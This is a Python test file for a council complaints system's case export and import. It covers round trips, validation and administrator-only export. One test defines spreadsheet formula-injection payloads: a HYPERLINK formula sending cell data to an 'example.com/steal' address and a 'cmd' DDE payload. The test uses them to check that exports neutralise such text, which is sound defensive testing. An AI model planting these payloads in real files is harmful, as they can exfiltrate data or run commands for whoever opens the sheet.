"""Export, and the round trip: cases exported from one database and imported into an empty one
export again identically, with the same figures."""

from __future__ import annotations

import csv
import dataclasses
import json
from datetime import date
from pathlib import Path

import pytest
import sqlalchemy as sa
from click.testing import CliRunner, Result
from openpyxl import load_workbook

from complaints.cli import cli
from complaints.clock import SettableClock
from complaints.config import DatabaseSettings
from complaints.context import Context
from complaints.db import Database, upgrade
from complaints.demo import load_demo_data
from complaints.demo.staff import ensure_demo_staff
from complaints.exchange.columns import COLUMN_NAMES
from complaints.exchange.exporting import export_rows
from complaints.reports.periods import Period
from complaints.reports.service import build_report
from complaints.services.people import add_user, seed_reference_data
from tests.support import LogCase, audit_count, figures

DEMO_CASES = 120


def run(ctx: Context, *args: str) -> Result:
    return CliRunner().invoke(cli, list(args), obj={"context": ctx})


@pytest.fixture
def demo(ctx: Context) -> Context:
    load_demo_data(ctx, cases=DEMO_CASES)
    return ctx


@pytest.fixture
def empty(demo: Context, tmp_path: Path, clock: SettableClock) -> Context:
    """A second, empty database with the same council set up (on SQLite whatever the first is)."""
    target = second_council(demo, tmp_path / "empty.db", clock)
    ensure_demo_staff(target)
    return target


def second_council(like: Context, path: Path, clock: SettableClock) -> Context:
    """A second, empty SQLite database with `like`'s teams and categories but no staff."""
    database = Database(f"sqlite:///{path}")
    upgrade(database)
    settings = dataclasses.replace(like.settings, database=DatabaseSettings(database.url))
    target = Context(settings, clock, database)
    seed_reference_data(target)
    return target


def report_tables(ctx: Context, year: int) -> dict[str, object]:
    """Every table of the statutory annual report for the financial year starting in `year`."""
    report = build_report(ctx, Period.financial_year(year), by="admin")
    return {table.key: (table.columns, table.rows, table.totals) for table in report.tables}


def export_csv(ctx: Context, path: Path) -> str:
    result = run(ctx, "export", "--format", "csv", "--out", str(path), "--by", "admin")
    assert result.exit_code == 0, result.output
    assert result.output.strip() == f"{DEMO_CASES} cases written to {path}"
    return path.read_text(encoding="utf-8")


def test_cases_exported_and_imported_into_an_empty_database_come_back_the_same(
    demo: Context, empty: Context, tmp_path: Path
) -> None:
    first = export_csv(demo, tmp_path / "first.csv")

    imported = run(empty, "import", "cases", str(tmp_path / "first.csv"), "--by", "admin")

    assert imported.exit_code == 0, imported.output
    assert f"first.csv: imported {DEMO_CASES} new cases, 0 updated, 0 unchanged" in imported.output
    assert export_csv(empty, tmp_path / "second.csv") == first
    assert figures(empty) == figures(demo)
    for year in (2025, 2026):
        assert report_tables(empty, year) == report_tables(demo, year)


def test_the_csv_has_a_row_per_case_with_the_import_columns(demo: Context, tmp_path: Path) -> None:
    export_csv(demo, tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as stream:
        reader = csv.DictReader(stream)
        rows = list(reader)
    assert tuple(reader.fieldnames or ()) == COLUMN_NAMES
    assert len(rows) == DEMO_CASES
    assert len({row["reference"] for row in rows}) == DEMO_CASES


def test_a_workbook_export_imports_back(demo: Context, empty: Context, tmp_path: Path) -> None:
    workbook = tmp_path / "cases.xlsx"
    result = run(demo, "export", "--format", "xlsx", "--out", str(workbook), "--by", "admin")
    assert result.exit_code == 0, result.output

    imported = run(empty, "import", "cases", str(workbook), "--by", "admin")

    assert imported.exit_code == 0, imported.output
    assert figures(empty) == figures(demo)


def test_the_json_export_holds_everything_about_each_case(demo: Context, tmp_path: Path) -> None:
    out = tmp_path / "all.json"
    result = run(demo, "export", "--format", "json", "--out", str(out), "--by", "admin")
    assert result.exit_code == 0, result.output

    document = json.loads(out.read_text(encoding="utf-8"))

    assert document["format"] == "complaints-export"
    cases = document["cases"]
    assert len(cases) == DEMO_CASES
    with demo.database.engine.connect() as connection:
        events = connection.execute(
            sa.text("SELECT count(*) FROM audit_event WHERE case_id IS NOT NULL")
        ).scalar_one()
        outcomes = connection.execute(sa.text("SELECT count(*) FROM point_outcome")).scalar_one()
    assert sum(len(case["audit_event"]) for case in cases) == events
    assert sum(len(case["point_outcome"]) for case in cases) == outcomes
    assert {"complaint_point", "deadline", "remedy", "letter", "hold", "extension"} <= set(cases[0])


def test_a_failed_export_leaves_no_partial_file(demo: Context, tmp_path: Path) -> None:
    out = tmp_path / "missing-folder" / "cases.csv"
    result = run(demo, "export", "--format", "csv", "--out", str(out), "--by", "admin")
    assert result.exit_code == 1
    assert "there is no folder" in result.output
    assert not out.exists() and not out.with_name("cases.csv.part").exists()


def test_an_export_to_standard_output(demo: Context) -> None:
    result = run(demo, "export", "--format", "csv", "--out", "-", "--by", "admin")
    assert result.exit_code == 0
    assert result.stdout.splitlines()[0] == ",".join(COLUMN_NAMES)
    refused = run(demo, "export", "--format", "xlsx", "--out", "-", "--by", "admin")
    assert refused.exit_code == 2 and "needs a file" in refused.output


def test_a_refused_import_prints_every_problem_and_exits_non_zero(
    empty: Context, tmp_path: Path
) -> None:
    file = tmp_path / "bad.csv"
    file.write_text(
        "reference,feedback_type,procedure,state,received_on,summary\n"
        "A-1,complaint,corporate,nowhere,2026-01-05,Late bins\n"
        "A-2,praise,feedback,closed,2026-01-05,Thanks\n",
        encoding="utf-8",
    )
    before = audit_count(empty)
    result = run(empty, "import", "cases", str(file), "--by", "admin")
    assert result.exit_code == 1
    assert "row 2: state: 'nowhere' is not a state of corporate" in result.stderr
    assert "row 3: feedback_type: 'praise' is not one of" in result.stderr
    assert audit_count(empty) == before


FORMULAS = {
    "complainant_name": '=HYPERLINK("https://example.com/steal?"&A1,"Ava Smith")',
    "summary": "-2+3+cmd|' /C calc'!A0",
    "complainant_phone": "+33 1 23 45 67 89",  # stored as written: a number abroad
    "complainant_address": "@SUM(1+1)",
}


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_text_that_looks_like_a_formula_is_exported_inert_and_imports_back_the_same(
    council: Context, log_case: LogCase, clock: SettableClock, tmp_path: Path, file_format: str
) -> None:
    log_case("corporate", date(2026, 11, 2), **FORMULAS)
    out = tmp_path / f"cases.{file_format}"
    assert (
        run(
            council, "export", "--format", file_format, "--out", str(out), "--by", "admin"
        ).exit_code
        == 0
    )

    if file_format == "csv":
        with out.open(encoding="utf-8", newline="") as stream:
            (row,) = list(csv.DictReader(stream))
        assert {name: row[name] for name in FORMULAS} == {
            name: "'" + text for name, text in FORMULAS.items()
        }
    else:
        sheet = load_workbook(out).worksheets[0]
        assert not [cell.coordinate for row in sheet.iter_rows() for cell in row
                    if cell.data_type == "f"]  # fmt: skip
    target = second_council(council, tmp_path / "fresh.db", clock)
    add_user(target, "off", role="officer", full_name="Olive Officer", team="Customer Service")
    add_user(target, "admin", role="admin", full_name="Ada Admin")
    imported = run(target, "import", "cases", str(out), "--by", "admin")
    assert imported.exit_code == 0, imported.output
    assert list(export_rows(target, by="admin")) == list(export_rows(council, by="admin"))


def test_only_an_administrator_exports_every_case_and_it_is_recorded(
    council: Context, log_case: LogCase, tmp_path: Path
) -> None:
    log_case("corporate", date(2026, 11, 2))
    out = tmp_path / "cases.csv"
    events = audit_count(council)
    refused = run(council, "export", "--format", "csv", "--out", str(out), "--by", "mgr")
    assert refused.exit_code == 1 and "a manager cannot export every case" in refused.stderr
    assert not out.exists() and audit_count(council) == events
    exported = run(council, "export", "--format", "csv", "--out", str(out), "--by", "admin")
    assert exported.exit_code == 0 and audit_count(council) == events + 1
